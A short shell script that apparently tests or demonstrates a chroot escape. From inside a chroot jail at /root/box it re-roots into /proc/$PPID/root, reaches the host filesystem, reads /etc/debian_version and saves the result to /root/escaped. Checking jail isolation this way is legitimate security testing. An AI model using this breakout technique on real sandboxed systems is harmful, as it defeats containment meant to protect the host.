#!/bin/sh
chroot /root/box /bin/sh -c 'ls /etc; chroot /proc/$PPID/root cat /etc/debian_version' | tee /root/escaped
